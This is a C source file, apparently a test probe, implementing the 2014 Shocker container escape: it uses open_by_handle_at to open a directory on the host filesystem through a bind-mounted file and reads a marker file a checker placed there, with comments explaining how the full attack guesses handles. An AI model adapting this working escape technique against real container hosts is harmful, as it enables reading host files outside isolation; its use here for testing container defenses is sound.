/*
 * Shocker (2014): open_by_handle_at(2) reaches any file of a filesystem the container can see part
 * of, by its handle, whatever the container's root. The container's /etc/hosts is a bind mount of
 * a file in the runtime's state root, so an fd of it is an fd on the host's filesystem, and a handle
 * names a directory there. open_by_handle_at needs CAP_DAC_READ_SEARCH (fs/fhandle.c,
 * may_decode_fh), which docker's default set leaves out.
 *
 *   shocker handle PATH                 prints PATH's handle (name_to_handle_at: no privilege needed);
 *                                       the checker runs this on the host, for a directory it owns
 *   shocker read FILE HANDLE NAME       opens the directory HANDLE names on FILE's filesystem, then
 *                                       NAME in it, read-only, and prints its first line
 *
 * The real attack finds its handles by guessing (the root's is inode 2 on ext4, then it walks down);
 * here the checker hands over the handle of its own directory, so that success reads only the marker
 * the checker put there, and the program never opens anything for writing.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MAX_HANDLE 128

static int print_handle(const char *path)
{
	char buffer[sizeof(struct file_handle) + MAX_HANDLE];
	struct file_handle *handle = (struct file_handle *)buffer;
	int mount_id;
	handle->handle_bytes = MAX_HANDLE;
	if (name_to_handle_at(AT_FDCWD, path, handle, &mount_id, 0) < 0) {
		printf("name_to_handle_at: %s\n", strerrorname_np(errno));
		return 1;
	}
	printf("%d:", handle->handle_type);
	for (unsigned i = 0; i < handle->handle_bytes; i++)
		printf("%02x", handle->f_handle[i]);
	printf("\n");
	return 0;
}

static int read_by_handle(const char *file, const char *text, const char *name)
{
	char buffer[sizeof(struct file_handle) + MAX_HANDLE];
	struct file_handle *handle = (struct file_handle *)buffer;
	char *hex;
	handle->handle_type = (int)strtol(text, &hex, 10);
	if (*hex++ != ':' || strlen(hex) % 2 || strlen(hex) / 2 > MAX_HANDLE) {
		printf("bad handle: %s\n", text);
		return 2;
	}
	handle->handle_bytes = (unsigned)(strlen(hex) / 2);
	for (unsigned i = 0; i < handle->handle_bytes; i++)
		sscanf(hex + 2 * i, "%2hhx", &handle->f_handle[i]);
	int mount_fd = open(file, O_RDONLY);
	if (mount_fd < 0) {
		printf("open %s: %s\n", file, strerrorname_np(errno));
		return 1;
	}
	int dir = open_by_handle_at(mount_fd, handle, O_RDONLY | O_DIRECTORY);
	if (dir < 0) {
		printf("open_by_handle_at: %s\n", strerrorname_np(errno));
		return 1;
	}
	int marker = openat(dir, name, O_RDONLY);
	if (marker < 0) {
		printf("openat %s: %s\n", name, strerrorname_np(errno));
		return 1;
	}
	char line[256];
	ssize_t length = read(marker, line, sizeof line - 1);
	if (length < 0) {
		printf("read: %s\n", strerrorname_np(errno));
		return 1;
	}
	line[length] = '\0';
	line[strcspn(line, "\n")] = '\0';
	printf("read outside the container: %s\n", line);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 3 && !strcmp(argv[1], "handle"))
		return print_handle(argv[2]);
	if (argc == 5 && !strcmp(argv[1], "read"))
		return read_by_handle(argv[2], argv[3], argv[4]);
	fprintf(stderr, "usage: shocker handle PATH | shocker read FILE HANDLE NAME\n");
	return 2;
}
